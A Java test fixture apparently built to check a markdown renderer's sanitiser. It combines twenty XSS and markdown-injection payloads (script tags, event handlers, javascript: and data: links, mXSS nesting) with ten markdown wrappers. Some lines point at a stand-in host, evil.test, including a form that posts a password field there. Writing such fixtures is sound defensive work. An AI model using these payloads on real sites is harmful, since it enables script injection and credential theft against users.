package ru.vitok.uikit;

import java.util.ArrayList;
import java.util.List;

/** Markdown that wants to be more than words: twenty tricks, each in ten dresses. */
final class HostileTexts {

    private static final List<String> TRICKS = List.of(
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<svg/onload=alert(1)>",
            "<iframe src=\"javascript:alert(1)\"></iframe>",
            "[жми](javascript:alert(1))",
            "[жми](JaVaScRiPt:alert(1))",
            "[жми](java\tscript:alert(1))",
            "[жми](&#106;avascript:alert(1))",
            "[жми](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
            "[жми](//evil.test/x)",
            "[жми](vbscript:msgbox(1))",
            "![x](javascript:alert(1))",
            "<a href=\"javascript:alert(1)\" onclick=\"alert(1)\">x</a>",
            "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
            "<style>@import 'http://evil.test/x.css';</style>",
            "<meta http-equiv=refresh content='0;url=//evil.test'>",
            "<form action=//evil.test><input name=password></form>",
            "<base href=//evil.test/>",
            "[ссылка]\n\n[ссылка]: javascript:alert(1) \"onmouseover=alert(1)\"",
            "<details open ontoggle=alert(1)>x</details>");

    private static final List<String> DRESSES = List.of(
            "%s",
            "> %s",
            "- пункт\n- %s",
            "| a | b |\n|---|---|\n| %s | x |",
            "# %s",
            "**%s**",
            "текст до %s текст после",
            "`` ` ``%s`` ` ``",
            "<!-- %s -->",
            "<div>\n\n%s\n\n</div>");

    private HostileTexts() {}

    static List<String> all() {
        var texts = new ArrayList<String>();
        for (var trick : TRICKS) {
            for (var dress : DRESSES) {
                texts.add(dress.formatted(dress.startsWith("| a") ? trick.replace("\n", " ") : trick));
            }
        }
        return texts;
    }
}
